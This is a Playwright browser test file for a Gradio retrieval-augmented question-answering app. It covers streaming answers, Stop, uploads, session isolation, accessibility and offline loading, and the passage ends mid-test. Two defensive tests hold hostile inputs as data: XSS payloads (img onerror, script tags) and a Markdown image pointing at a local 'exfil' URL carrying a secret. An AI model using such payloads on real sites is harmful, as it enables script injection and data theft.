"""The app in Debian's Chromium, driven by Playwright: what a student sees, end to end.

Each test opens its own browser context, so it is its own Gradio session. Growth is sampled in
the page every 20 ms; every wait is on a condition with a generous timeout, never a fixed sleep
that a test depends on. Screenshots go to test-artifacts/ (app-mid-answer.png is the README's).
"""

from __future__ import annotations

import gc
import re
import weakref
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from app_fixtures import GRADIO_QUEUE_PANDAS_WARNINGS, IMAGE_TRIGGER, MAX_UPLOAD_FILES, MAX_UPLOAD_MB
from axe_playwright_python.sync_playwright import Axe

from benchmarks.browser import type_pacing
from benchmarks.local import wait_until
from rag.generate import NOT_FOUND
from rag.web.page import (
    ANSWERS,
    ASK,
    CHAT,
    CHAT_LOG,
    CLEAR,
    COMPARE_QUESTION_BOX,
    COMPARE_RETRIEVERS,
    COPY_CONVERSATION_LABEL,
    CORPUS_INFO,
    INSPECT,
    INSPECT_QUESTION_BOX,
    LAB,
    LAB_COLUMNS,
    LAB_QUESTION_BOX,
    LATEST_ANSWER,
    MARKDOWN_TEXT,
    NEXT_STAGE,
    OPEN_THOUGHT_LINES,
    PRESENTER_BOX,
    PROMPT,
    PROMPT_PARTS,
    QUESTION_BOX,
    QUESTION_HINT,
    RETRY,
    SCORES,
    SOURCES,
    STAGES,
    STEP_THROUGH_BOX,
    STOP,
    STREAMED_ANSWER,
    STREAMED_INFO,
    STREAMING_CURSOR,
    THOUGHT_TITLES,
    THOUGHTS,
    TIMINGS,
    UPLOAD_INPUT,
    UPLOAD_LOG,
    UPLOAD_NOTICE,
    USER_MESSAGES,
    WARM_UP,
    WHOLE_ANSWER,
    WHOLE_INFO,
)
from rag.web.updates import WORKLOAD

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings(GRADIO_QUEUE_PANDAS_WARNINGS)]

WAIT_MS = 120_000  # a generous upper bound for a loaded 2-core machine, never a measured duration
WAIT_S = WAIT_MS / 1000
QUESTION = "What is buffered streaming?"
HNSW_QUESTION = "How does an HNSW index work?"
FOLLOW_UP = "What are its drawbacks?"


def last_js(selector: str) -> str:
    """A script for the last element `selector` matches on the page (undefined if none)."""
    return f"[...document.querySelectorAll({selector!r})].at(-1)"


ANSWER_JS = f"({last_js(ANSWERS)}?.innerText ?? '').trim()"  # the conversation's last answer
THOUGHT_JS = f"({last_js(THOUGHTS)}?.innerText ?? '')"  # its last thought: the title, and the lines while open
# what the page's stylesheet draws after the last answer's text: the cursor while it streams
CURSOR_JS = f"(last => last ? getComputedStyle(last, '::after').content : '')({last_js(f'{ANSWERS} .md')})"
# Samples the last answer's length and its thought's lines (while the thought is open) every 20 ms.
SAMPLER_JS = """([answers, thoughts, name]) => {
    const samples = window[name] = [];
    const last = selector => [...document.querySelectorAll(selector)].at(-1);
    window[name + 'Timer'] = setInterval(() => {
        const length = (last(answers)?.innerText ?? '').trim().length;
        const thought = last(thoughts), log = thought?.innerText ?? '';
        const open = thought?.querySelector(':scope > .content') ?? null;
        const lines = open ? open.innerText.trim().split('\\n').length : 0;
        const previous = samples[samples.length - 1];
        if (!previous || previous.length !== length || previous.status !== log.length || previous.lines !== lines) {
            samples.push({length, status: log.length, found: log.includes('Found'), lines});
        }
    }, 20);
}"""
ZORBLAX = "# Zorblax\n\nThe zorblax constant is 42. Quentin Vell measured it in a lab that does not exist.\n"
ZORBLAX_QUESTION = "What is the zorblax constant?"


@pytest.fixture
def open_page(chromium, app_url) -> Iterator[Callable[..., object]]:
    """Opens the app in a new browser context (a new Gradio session) at the given viewport size."""
    contexts = []

    def open_app(width: int = 1280, height: int = 720, query: str = ""):
        context = chromium.new_context(viewport={"width": width, "height": height})
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(WAIT_MS)
        page.goto(app_url + query)
        page.locator(QUESTION_BOX).wait_for()
        return page

    yield open_app
    for context in contexts:
        context.close()


def joined_sessions(page) -> set[str]:
    """The Gradio session ids the page's events are sent under, as its requests to join the queue go out."""
    session_ids: set[str] = set()

    def note(request) -> None:
        if "/queue/join" in request.url:
            session_ids.add(request.post_data_json["session_hash"])

    page.on("request", note)
    return session_ids


def answer_text(page) -> str:
    return page.evaluate(ANSWER_JS)


def answers(page) -> list[str]:
    return [text.strip() for text in page.locator(ANSWERS).all_inner_texts()]


def log_js(log: str) -> str:
    return f"document.querySelector('{log} .log')?.innerText ?? ''"


def status_text(page, log: str = UPLOAD_LOG) -> str:
    return page.evaluate(log_js(log))


def wait_for_status(page, text: str, log: str = UPLOAD_LOG) -> None:
    page.wait_for_function(f"({log_js(log)}).includes({text!r})")


def wait_for_thought(page, text: str) -> None:
    """Wait until the last answer's thought (its title, or its lines while open) says `text`."""
    page.wait_for_function(f"({THOUGHT_JS}).includes({text!r})")


def wait_for_turns(page, turns: int) -> None:
    """Wait until the conversation holds `turns` thoughts and the last is done (no spinner: finished,
    stopped or failed)."""
    page.wait_for_function(
        f"document.querySelectorAll({THOUGHTS!r}).length === {turns} && "
        f"!{last_js(THOUGHT_TITLES)}.querySelector('.loading-spinner')"
    )


def thought_title(page, index: int = -1) -> str:
    return page.locator(THOUGHT_TITLES).nth(index).inner_text().strip()


# The lines of a thought if it is open; else it is opened (a click on its title, as a reader would,
# again after a second if the conversation was redrawn meanwhile) and null returned.
THOUGHT_LOG_JS = """([thoughts, index]) => {
    const thought = [...document.querySelectorAll(thoughts)].at(index);
    const lines = thought?.querySelector(':scope > .content');
    if (lines) return lines.innerText.trim();
    if (!(performance.now() - (window.__thoughtClicked ?? -1e9) < 1000)) {
        thought?.querySelector(':scope > .title')?.click();
        window.__thoughtClicked = performance.now();
    }
    return null;
}"""


def thought_log(page, index: int = -1) -> str:
    """The lines of a thought (the last by default), opening it if it is collapsed."""
    return page.wait_for_function(THOUGHT_LOG_JS, arg=[THOUGHTS, index], polling=100).json_value()


def searched_for(log: str) -> str:
    """What a thought's log says was searched for ("What are the drawbacks of HNSW index?")."""
    return next(line.split("Searching for: ", 1)[1] for line in log.splitlines() if "Searching for: " in line)


def set_pacing(page, words_per_second: int) -> None:
    """Open the settings and type the pacing into the slider until it shows it (a busy page can drop one)."""
    page.locator("button.label-wrap", has_text="Settings").click()
    assert type_pacing(page, words_per_second, wait_ms=20_000), f"the slider would not show {words_per_second}"


def ask(page, question: str, *, press_enter: bool = False) -> None:
    page.locator(QUESTION_BOX).fill(question)
    if press_enter:
        page.locator(QUESTION_BOX).press("Enter")
    else:
        page.locator(ASK).click()


def wait_for_ask(page) -> None:
    """Wait until Ask can be pressed again after an answer, drawn as such (its fade back has ended)."""
    page.wait_for_function(
        f"(ask => !ask.disabled && getComputedStyle(ask).opacity === '1')(document.querySelector({ASK!r}))"
    )


def start_sampling(page, answers: str = ANSWERS, name: str = "__samples") -> None:
    page.evaluate(SAMPLER_JS, [answers, THOUGHTS, name])


def samples(page, name: str = "__samples") -> list[dict]:
    return page.evaluate(f"clearInterval(window.{name}Timer), window.{name}")


def upload(page, *paths: Path) -> None:
    page.locator("button.label-wrap", has_text="Your documents").click()
    page.locator(UPLOAD_INPUT).set_input_files([str(path) for path in paths])


def upload_zorblax(page, folder: Path) -> None:
    """Upload a document of ZORBLAX and wait until the page says it was added."""
    zorblax = folder / "zorblax.md"
    zorblax.write_text(ZORBLAX, encoding="utf-8")
    upload(page, zorblax)
    wait_for_status(page, "Added zorblax.md", UPLOAD_LOG)


def test_status_then_answer_stream_in_and_sources_appear(open_page, artifacts_dir):
    page = open_page()
    set_pacing(page, 12)
    start_sampling(page)

    ask(page, QUESTION)
    page.wait_for_function(
        f"({ANSWER_JS}).split(/\\s+/).length >= 14 && document.querySelector('{STREAMING_CURSOR}') !== null"
    )
    page.screenshot(path=artifacts_dir / "app-mid-answer.png")
    assert page.evaluate(CURSOR_JS) == '"▌"', "the cursor should follow the answer's text while it streams"
    wait_for_turns(page, 1)
    page.wait_for_selector(OPEN_THOUGHT_LINES, state="detached")  # the thought collapses when the answer is done
    page.wait_for_timeout(100)  # the sampler's next samples

    seen = samples(page)
    final = len(answer_text(page))
    lengths = [sample["length"] for sample in seen]
    assert lengths == sorted(lengths), f"the answer should only grow, saw lengths {lengths}"
    partial = {length for length in lengths if 0 < length < final}
    assert len(partial) >= 3, f"expected at least 3 intermediate answer lengths, saw {lengths}"
    first_words = next(sample for sample in seen if sample["length"])
    assert first_words["found"], "the thought should report the search before the answer appears"
    open_lines = [sample["lines"] for sample in seen if sample["lines"]]
    # Searching, Found and Generating may arrive in one drawing: the line-by-line growth of the log
    # itself is checked through the API (test_app_client.py), here that the open thought only grows.
    assert open_lines == sorted(open_lines) and max(open_lines) >= 3, (
        f"the thought should be open and grow while the answer is pending: {open_lines}"
    )
    assert thought_title(page).startswith("Done"), thought_title(page)
    assert page.locator(f"{SOURCES} details").count() == 5
    assert page.locator(f"{SOURCES} h2").inner_text() == f"Sources for “{QUESTION}”"
    assert page.locator(f"{SCORES} .row").count() == 5
    assert "first words after" in page.locator(TIMINGS).inner_text()
    assert page.locator(STREAMING_CURSOR).count() == 0, "the cursor should go when the answer is done"
    assert page.evaluate(CURSOR_JS) == "none"
    assert re.search(r"\+[\d.]+ m?s\s+Found 5 passages", thought_log(page)), thought_log(page)
    page.locator(f"{SOURCES} summary").first.click()
    assert page.locator(f"{SOURCES} details[open] .chunk").first.is_visible()
    page.screenshot(path=artifacts_dir / "app-answer-done.png", full_page=True)


def test_stop_keeps_the_partial_answer_in_the_conversation_and_stops_the_work(open_page):
    page = open_page()
    set_pacing(page, 3)
    working_before = WORKLOAD.answers
    ask(page, QUESTION)
    page.wait_for_function(f"({ANSWER_JS}).split(/\\s+/).length >= 3")

    page.locator(STOP).click()

    wait_for_thought(page, "Stopped after")
    wait_for_turns(page, 1)
    assert wait_until(lambda: WORKLOAD.answers <= working_before, 30), "the stopped answer's worker has ended"
    partial = answer_text(page)
    stopped_after = int(re.search(r"Stopped after (\d+) words?", thought_title(page)).group(1))
    assert stopped_after == len(partial.split()), f"thought says {stopped_after} words, the page shows {partial!r}"
    assert 3 <= stopped_after < 20, f"the answer should have stopped early: {partial!r}"
    page.wait_for_selector(OPEN_THOUGHT_LINES, state="detached")  # the stopped answer's thought collapses
    page.wait_for_timeout(1000)  # a window in which a still-running answer would add three words
    assert answer_text(page) == partial, "the answer should not grow after Stop"
    assert page.locator(STREAMING_CURSOR).count() == 0, "the cursor should go when the answer stops"

    ask(page, "What is BM25?")  # the next question: the stopped turn stays in the history above it
    page.wait_for_function(f"document.querySelectorAll({THOUGHTS!r}).length === 2")
    page.locator(STOP).click()
    wait_for_turns(page, 2)
    assert answers(page)[0] == partial, "the stopped answer should stay in the conversation as it was"
    assert page.locator(CHAT).get_by_text(QUESTION).count() == 1


def test_ask_waits_while_an_answer_is_written_and_a_question_typed_meanwhile_stays_in_the_box(open_page):
    page = open_page()
    set_pacing(page, 3)
    ask(page, QUESTION)
    page.wait_for_function(f"({ANSWER_JS}).split(/\\s+/).length >= 2")
    assert page.locator(ASK).is_disabled(), "Ask should wait while the answer is written"

    page.locator(QUESTION_BOX).fill("What is BM25?")
    page.locator(QUESTION_BOX).press("Enter")
    page.wait_for_timeout(1000)  # a window in which a second question would have been taken
    assert page.locator(THOUGHTS).count() == 1, "a question typed while the answer is written should wait"
    assert page.locator(QUESTION_BOX).input_value() == "What is BM25?", "the typed question should stay"

    page.locator(STOP).click()
    wait_for_turns(page, 1)
    page.locator(ASK).click()  # Playwright waits until Ask can be clicked again
    page.wait_for_function(f"document.querySelectorAll({THOUGHTS!r}).length === 2")
    assert page.locator(USER_MESSAGES).last.inner_text().strip() == "What is BM25?"
    page.locator(STOP).click()
    wait_for_turns(page, 2)
    wait_for_ask(page)


def copied(page, button) -> str:
    """What the clipboard holds after `button` (a locator) is clicked."""
    page.evaluate("navigator.clipboard.writeText('')")
    button.click()
    return page.wait_for_function("navigator.clipboard.readText().then((text) => text || null)").json_value()


def test_copying_a_message_or_the_conversation_gives_the_text_as_shown_without_the_status_log(open_page):
    page = open_page()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    question = "What is BM25 & how does it score <b>terms</b>?"
    ask(page, question)
    wait_for_turns(page, 1)
    answer = answer_text(page)
    assert "[1]" in answer

    copy_buttons = page.get_by_role("button", name="Copy message")
    assert copy_buttons.count() == 2, "the question and the answer have a copy button; the status log has none"
    assert copied(page, copy_buttons.first) == question, "a question copies as it was typed"
    copied_answer = copied(page, copy_buttons.last)
    assert " ".join(copied_answer.split()) == " ".join(answer.split()), "an answer copies as it is shown"

    copied_conversation = copied(page, page.get_by_role("button", name=COPY_CONVERSATION_LABEL))
    assert " ".join(copied_conversation.split()) == f"Question: {question} Answer: {' '.join(answer.split())}"


def test_uploaded_document_is_searchable_only_in_its_own_session(open_page, tmp_path):
    uploader = open_page()
    upload_zorblax(uploader, tmp_path)
    assert "zorblax.md" in uploader.locator(CORPUS_INFO).inner_text()

    ask(uploader, ZORBLAX_QUESTION, press_enter=True)
    wait_for_turns(uploader, 1)
    assert re.search(r"zorblax constant is 42\. \[\d\]", answer_text(uploader)), answer_text(uploader)
    assert "zorblax.md" in uploader.locator(SOURCES).inner_text()

    someone_else = open_page()
    ask(someone_else, ZORBLAX_QUESTION)
    wait_for_turns(someone_else, 1)
    assert "zorblax.md" not in someone_else.locator(SOURCES).inner_text()
    assert "42" not in answer_text(someone_else)

    uploader.get_by_role("button", name="Use shipped corpus").click()
    wait_for_status(uploader, "Back to the shipped corpus", UPLOAD_LOG)
    ask(uploader, ZORBLAX_QUESTION)
    wait_for_turns(uploader, 2)
    assert "zorblax.md" not in uploader.locator(SOURCES).inner_text()


def test_closing_the_tab_frees_its_documents_and_deletes_its_uploads(open_page, handlers, tmp_path):
    # A file name no other test uploads: the app's sessions are shared by every test in the run.
    notes = tmp_path / "closed-tab-notes.md"
    notes.write_text(ZORBLAX, encoding="utf-8")
    page = open_page()
    session_ids = joined_sessions(page)
    upload(page, notes)
    wait_for_status(page, f"Added {notes.name}", UPLOAD_LOG)
    ask(page, ZORBLAX_QUESTION)
    wait_for_turns(page, 1)

    [session_id] = session_ids
    session = handlers.SESSIONS[session_id]
    assert notes.name in session.corpus.uploads, session.corpus
    uploaded = set(session.files)
    session_kb = weakref.ref(session.corpus.kb)
    assert uploaded and all(path.exists() for path in uploaded), uploaded
    del session

    page.context.close()
    assert wait_until(lambda: not any(path.exists() for path in uploaded), WAIT_S), "the closed tab's files are deleted"
    assert wait_until(lambda: (gc.collect(), session_kb())[1] is None, WAIT_S), "nothing holds the closed tab's kb"


def test_each_bad_upload_says_why_and_the_good_ones_are_still_added(open_page, tmp_path):
    good = []
    for n in range(1, MAX_UPLOAD_FILES + 2):
        path = tmp_path / f"good-{n}.md"
        path.write_text(f"# Good notes {n}\n\nThe flumph index of teapot {n} is {n + 6}.\n", encoding="utf-8")
        good.append(path)
    empty = tmp_path / "empty.txt"
    empty.write_text("", encoding="utf-8")
    binary = tmp_path / "binary.txt"
    binary.write_bytes(b"\x00\x01\x02 not text \x00" * 50)
    wrong_type = tmp_path / "program.exe"
    wrong_type.write_bytes(b"MZ\x90\x00")
    too_big = tmp_path / "too-big.txt"
    too_big.write_text("words " * (MAX_UPLOAD_MB * 1024 * 1024 // 6 + 1000), encoding="utf-8")
    page = open_page()

    upload(page, good[0], empty, binary, wrong_type, too_big, *good[1:])

    wait_for_status(page, "Added good-1.md", UPLOAD_LOG)
    status = status_text(page, UPLOAD_LOG)
    added = ", ".join(path.name for path in good[:MAX_UPLOAD_FILES])
    assert f"Added {added}:" in status, status
    assert "empty.txt: the file is empty" in status
    assert "binary.txt: looks like binary data, not text" in status
    assert "program.exe: unsupported file type .exe" in status
    assert f"too-big.txt: 1.0 MB is over the {MAX_UPLOAD_MB} MB limit" in status
    assert f"{good[-1].name}: not added, at most {MAX_UPLOAD_FILES} uploaded files per session" in status
    page.locator(".toast-body", has_text="program.exe").first.wait_for()
    assert added in page.locator(CORPUS_INFO).inner_text()


def test_html_in_questions_and_documents_is_shown_as_text(open_page, tmp_path):
    evil = tmp_path / "evil.md"
    evil.write_text(
        '# Quaxel\n\nThe quaxel ratio is 7 to 3. <img src=x onerror="window.__xss=1"> '
        "<script>window.__xss=1</script>\n",
        encoding="utf-8",
    )
    question = '<img src=x onerror="window.__xss=1"> <script>window.__xss=1</script> What is the quaxel ratio?'
    page = open_page()
    upload(page, evil)
    wait_for_status(page, "Added evil.md", UPLOAD_LOG)

    ask(page, question)
    wait_for_turns(page, 1)

    assert '<img src=x onerror="window.__xss=1">' in page.locator(CHAT).inner_text(), "the question, as text"
    page.locator(f"{SOURCES} summary").first.click()
    sources = page.locator(SOURCES).inner_text()
    assert '<img src=x onerror="window.__xss=1">' in sources, "the question should be shown as text"
    assert "<script>window.__xss=1</script>" in sources, "the document's HTML should be shown as text"
    assert page.locator(f"{SOURCES} img, {SOURCES} script, {CHAT} img, {CHAT} script").count() == 0
    assert page.evaluate("window.__xss") is None, "no HTML from a question or a document may run"


@pytest.mark.parametrize("typed", ["", "   ", "?!?!"])
def test_a_question_with_no_words_gets_a_clear_message_and_ask_comes_back(open_page, typed):
    page = open_page()
    ask(page, typed, press_enter=True)

    page.locator(".toast-body", has_text="Please type a question").first.wait_for()
    wait_for_ask(page)
    # Not a turn, whose Retry could only fail again; what was typed stays to be mended.
    assert page.locator(THOUGHTS).count() == 0
    assert page.locator(QUESTION_BOX).input_value() == typed


def test_a_question_too_long_to_use_whole_says_so_in_a_warning(open_page):
    page = open_page()
    ask(page, "Why is streaming useful? " + "Please explain. " * 150, press_enter=True)

    page.locator(".toast-body", has_text="using the first 2,000").first.wait_for()
    wait_for_turns(page, 1)


def test_an_error_mid_answer_is_logged_and_warned_and_the_words_stay(open_page):
    page = open_page()
    set_pacing(page, 0)
    page.get_by_label("Answer backend").click()
    page.get_by_role("option", name="openai").click()

    ask(page, QUESTION)

    page.locator(".toast-body", has_text="without finishing").first.wait_for()
    wait_for_turns(page, 1)
    assert thought_title(page).startswith("Error:"), "the thought should say what failed"
    assert answer_text(page) == "Half of an answer and"
    # The cursor sits in another component than the conversation, which the browser may draw a frame later.
    page.wait_for_selector(STREAMING_CURSOR, state="detached")


def test_with_and_without_streaming_side_by_side(open_page, artifacts_dir):
    page = open_page()
    set_pacing(page, 20)
    page.get_by_role("tab", name="With vs without streaming").click()
    page.locator(COMPARE_QUESTION_BOX).fill(QUESTION)
    start_sampling(page, f"{WHOLE_ANSWER} {MARKDOWN_TEXT}", "__whole")
    start_sampling(page, f"{STREAMED_ANSWER} {MARKDOWN_TEXT}", "__streamed")

    page.get_by_role("button", name="Run both").click()

    for pane in (WHOLE_INFO, STREAMED_INFO):
        page.locator(pane, has_text="whole answer after").wait_for()
    page.screenshot(path=artifacts_dir / "app-compare.png")
    whole, streamed = samples(page, "__whole"), samples(page, "__streamed")
    final = whole[-1]["length"]
    assert final > 0 and streamed[-1]["length"] == final, "both panes should end with the same answer"
    assert {sample["length"] for sample in whole} <= {0, final}, f"the whole pane showed partial text: {whole}"
    assert len({sample["length"] for sample in streamed} - {0, final}) >= 3, f"the streamed pane: {streamed}"


def test_readable_on_a_phone(open_page, artifacts_dir):
    page = open_page(390, 844)
    ask(page, QUESTION)
    wait_for_turns(page, 1)

    assert page.evaluate("document.documentElement.scrollWidth") <= 390, "the page should not scroll sideways"
    for selector in (QUESTION_BOX, ASK, STOP):
        box = page.locator(selector).bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= 390, f"{selector} should fit the screen: {box}"
    page.screenshot(path=artifacts_dir / "app-phone.png", full_page=True)


def test_the_conversation_scrolls_below_its_label_and_buttons_not_under_them(open_page):
    page = open_page(390, 844)
    for turns, question in enumerate((QUESTION, FOLLOW_UP), 1):
        ask(page, question)
        wait_for_turns(page, turns)
        wait_for_ask(page)

    messages = page.locator(f"{CHAT} .bubble-wrap")
    messages.evaluate("log => { log.scrollTop = log.scrollHeight / 2; }")
    assert messages.evaluate("log => log.scrollTop") > 0, "two turns should fill the conversation on a phone"
    top = messages.bounding_box()["y"]
    for toolbar in (f"{CHAT} label", f"{CHAT} .top-panel"):
        box = page.locator(toolbar).first.bounding_box()
        assert box["y"] + box["height"] <= top, f"{toolbar} covers the scrolled messages: {box}, messages from {top}"


def test_bold_text_is_drawn_in_one_font(open_page):
    page = open_page()
    ask(page, HNSW_QUESTION)
    wait_for_turns(page, 1)

    devtools = page.context.new_cdp_session(page)
    devtools.send("DOM.enable")
    devtools.send("CSS.enable")
    root = devtools.send("DOM.getDocument")["root"]["nodeId"]
    for selector in ("h1", f"{SOURCES} summary b"):  # the page's title, a source's title: "FAISS IndexHNSWFlat…"
        node = devtools.send("DOM.querySelector", {"nodeId": root, "selector": selector})["nodeId"]
        fonts = devtools.send("CSS.getPlatformFontsForNode", {"nodeId": node})["fonts"]
        assert len(fonts) == 1, f"{selector}'s letters come from several fonts: {fonts}"


def test_the_page_loads_nothing_from_outside_the_app(chromium, app_url):
    context = chromium.new_context(viewport={"width": 1280, "height": 720})
    requested: list[str] = []
    context.on("request", lambda request: requested.append(request.url))
    try:
        page = context.new_page()
        page.goto(app_url)
        page.locator(QUESTION_BOX).wait_for()
    finally:
        context.close()
    assert any(url.startswith(app_url) for url in requested), "the page's own requests should have been seen"
    outside = [url for url in requested if not url.startswith((app_url, "data:", "blob:"))]
    assert not outside, f"the app should work offline, but the page fetched {outside}"


def test_a_status_log_longer_than_its_box_shows_its_newest_line(open_page, tmp_path):
    files = []
    for n in range(1, 2 * MAX_UPLOAD_FILES + 1):
        path = tmp_path / f"note-{n}.md"
        path.write_text(f"# Note {n}\n\nThe wibble count of shelf {n} is {n * 11}.\n", encoding="utf-8")
        files.append(path)
    page = open_page()

    upload(page, *files)

    wait_for_status(page, "Added note-1.md", UPLOAD_LOG)
    scroller = page.locator(f"{UPLOAD_LOG} .log")
    overflow = scroller.evaluate("log => log.scrollHeight - log.clientHeight")
    assert overflow > 0, "the test needs a log longer than its box"
    newest, box = scroller.locator("> div > div").last, scroller.bounding_box()
    assert "Added note-1.md" in newest.inner_text(), newest.inner_text()
    line = newest.bounding_box()
    assert box["y"] <= line["y"] and line["y"] + line["height"] <= box["y"] + box["height"] + 1, (
        f"the newest line ({line}) should be inside the log's box ({box})"
    )


# Resolves once the animations of an element (or of the whole `document`) that end have ended: Gradio's
# buttons fade their colours in for 0.2 s when focused or enabled (a blinking cursor never ends).
SETTLED_JS = """(target) => Promise.all(target.getAnimations()
  .filter((animation) => animation.playState === 'running' && Number.isFinite(animation.effect.getComputedTiming().endTime))
  .map((animation) => animation.finished.catch(() => null)))"""


def serious_violations(page) -> list[str]:
    """axe-core's serious and critical violations on the page, one line each, with the elements at fault,
    once its transitions have ended (axe had measured Next stage's contrast halfway through its fade)."""
    page.evaluate(f"({SETTLED_JS})(document)")
    found = Axe().run(page).response["violations"]
    return [
        f"{rule['id']} ({rule['impact']}): {[node['target'] for node in rule['nodes']]}"
        for rule in found
        if rule["impact"] in ("serious", "critical")
    ]


def test_no_serious_accessibility_violations_before_during_and_after_an_answer(open_page):
    page = open_page()
    page.locator(WARM_UP, has_text="Ready").wait_for()
    assert serious_violations(page) == [], "the idle page"
    set_pacing(page, 3)

    ask(page, QUESTION)
    page.wait_for_function(f"({ANSWER_JS}).split(/\\s+/).length >= 3")
    assert page.locator(STREAMING_CURSOR).count() == 1, "the axe check should run mid-answer"
    assert serious_violations(page) == [], "mid-answer"

    wait_for_turns(page, 1)
    wait_for_ask(page)
    assert serious_violations(page) == [], "after an answer"


def relative_luminance(rgb: str) -> float:
    red, green, blue = (int(part) / 255 for part in re.findall(r"\d+", rgb)[:3])
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in (red, green, blue)]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(foreground: str, background: str) -> float:
    lighter, darker = sorted((relative_luminance(foreground), relative_luminance(background)), reverse=True)
    return (lighter + 0.05) / (darker + 0.05)


BACKGROUND_JS = """element => {
    for (let at = element; at; at = at.parentElement) {
        const colour = getComputedStyle(at).backgroundColor;
        if (colour !== 'rgba(0, 0, 0, 0)' && colour !== 'transparent') return colour;
    }
    return 'rgb(255, 255, 255)';
}"""


def assert_focus_ring(page, what: str) -> None:
    focused = page.locator(":focus")
    focused.evaluate(SETTLED_JS)
    style = focused.evaluate(
        "e => { const s = getComputedStyle(e); return [s.outlineStyle, s.outlineWidth, s.outlineColor]; }"
    )
    outline_style, width, colour = style
    behind = focused.evaluate(f"e => ({BACKGROUND_JS})(e.parentElement)")
    assert outline_style != "none" and 2 <= float(width.removesuffix("px")) <= 3, f"{what}'s focus outline: {style}"
    assert contrast(colour, behind) >= 3, f"{what}'s focus outline {colour} on {behind}"


def test_question_box_is_labelled_hinted_and_focus_is_visible(open_page):
    page = open_page()

    box = page.get_by_role("textbox", name="Question")
    assert box.count() == 1, "the question box should be named Question"
    hint = page.locator(QUESTION_HINT)
    assert hint.is_visible() and "Press Enter to ask" in hint.inner_text()
    page.locator(f"{QUESTION_BOX}[aria-describedby={QUESTION_HINT.id}]").wait_for(state="attached")  # set on load
    placeholder = box.evaluate("e => getComputedStyle(e, '::placeholder').color")
    field = box.evaluate(BACKGROUND_JS)
    assert contrast(placeholder, field) >= 4.5, f"placeholder {placeholder} on {field}"
    # the conversation (and so each answer as it grows): a polite live log, named
    page.locator(f"{CHAT_LOG}[aria-live=polite][aria-label=Conversation]").wait_for(state="attached")
    page.locator("button.label-wrap", has_text="Your documents").click()
    page.locator(f"{UPLOAD_LOG} .log[role=log][aria-live=polite]").wait_for(state="attached")  # drawn after the click

    box.focus()
    assert_focus_ring(page, "the question box")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == ASK.id
    assert_focus_ring(page, "Ask")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "stop"
    assert_focus_ring(page, "Stop")


def test_a_refused_question_shows_the_closest_passages_as_not_used(open_page):
    page = open_page()

    ask(page, "What is the capital of Peru?")

    wait_for_turns(page, 1)
    page.wait_for_selector(STREAMING_CURSOR, state="detached")  # the finished answer's sources follow it
    assert answer_text(page) == NOT_FOUND
    page.locator(f"{SOURCES} h2", has_text="Closest passages (not used)").wait_for()
    assert "Sources" not in page.locator(SOURCES).inner_text()
    assert page.locator(f"{SOURCES} .sources.unused details").count() == 5


def long_document(paragraphs: int) -> str:
    """A document of distinct paragraphs, about one passage per four: embedding 200 takes seconds."""
    lines = ["# Gazetteer of imaginary lighthouses"]
    for n in range(1, paragraphs + 1):
        lines.append(
            f"Lighthouse {n} stands on cape {n * 7 % 997}. Its lamp turns {n % 13 + 2} times a minute, and its "
            f"keeper logs {n * 3} ships a season in a book bound in {('red', 'green', 'blue')[n % 3]} leather. "
            f"The tower is {n % 40 + 20} metres tall and was painted in the year {1800 + n % 200}."
        )
    return "\n\n".join(lines) + "\n"


def test_a_question_asked_during_an_upload_says_it_searches_without_it(open_page, tmp_path):
    big = tmp_path / "long.md"
    big.write_text(long_document(800), encoding="utf-8")
    page = open_page()
    upload(page, big)
    page.locator(UPLOAD_NOTICE, has_text="Adding long.md… questions asked now search without it").wait_for()
    page.evaluate(
        """(chat) => window.__uploadInAnswerLog = setInterval(() => {
        if (/Embedded|long\\.md:/.test(document.querySelector(chat).innerText)) window.__mixed = true;
    }, 20)""",
        CHAT,
    )

    ask(page, QUESTION)

    wait_for_turns(page, 1)
    log = thought_log(page)
    first = log.splitlines()[0]
    assert first.endswith("Your upload (long.md) is still being added; this answer searches without it"), log
    wait_for_status(page, "Added long.md", UPLOAD_LOG)
    assert page.locator(UPLOAD_NOTICE).inner_text().strip() == "", "the notice should go when the upload is added"
    assert not page.evaluate("clearInterval(window.__uploadInAnswerLog), window.__mixed"), "upload progress in the log"
    assert thought_log(page) == log, "the upload's progress should never replace the answer's status log"
    assert "Embedded" in status_text(page, UPLOAD_LOG)


def test_an_answer_holding_a_markdown_image_makes_the_browser_fetch_nothing(open_page):
    page = open_page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    set_pacing(page, 0)
    page.get_by_label("Answer backend").click()
    page.get_by_role("option", name="openai").click()

    ask(page, f"What is the {IMAGE_TRIGGER} reading?")  # the test server answers with a Markdown image
    wait_for_turns(page, 1)

    assert "![chart](http://127.0.0.1:9/exfil?q=secret)" in answer_text(page), "shown as text, as written"
    assert page.locator(f"{CHAT} img").count() == 0, "the answer must not show an image from a URL"
    assert not [url for url in requested if "exfil" in url], f"the page fetched {requested}"


def test_a_follow_up_is_searched_with_the_conversation_and_answered_from_its_document(open_page, artifacts_dir):
    page = open_page()
    ask(page, HNSW_QUESTION)
    wait_for_turns(page, 1)
    assert "Searching knowledge base…" in thought_log(page), "a first question is searched as asked"
    answered = len(answers(page))  # counted before the follow-up, whose answer may appear at once

    # Enter, unlike a click on Ask, does not wait for Ask to be enabled again, and the answering event takes no
    # new question until it has finished: on a busy machine the follow-up was typed while the first was ending.
    wait_for_ask(page)
    ask(page, FOLLOW_UP, press_enter=True)
    wait_for_thought(page, "Searching for:")
    page.wait_for_function(
        f"({ANSWER_JS}).split(/\\s+/).length >= 8 && {answered} < document.querySelectorAll({ANSWERS!r}).length"
    )
    page.screenshot(path=artifacts_dir / "app-chat-mid-answer.png")
    wait_for_turns(page, 2)

    searched = re.search(r"Searching for: (.+)", thought_log(page)).group(1)
    assert "HNSW" in searched and "drawbacks" in searched, f"the follow-up should be searched in context: {searched}"
    assert [text.strip() for text in page.locator(USER_MESSAGES).all_inner_texts()] == [HNSW_QUESTION, FOLLOW_UP]
    assert len(answers(page)) == 2 and "HNSW" in answer_text(page), answers(page)
    top_source = page.locator(f"{SOURCES} details").first.inner_text()
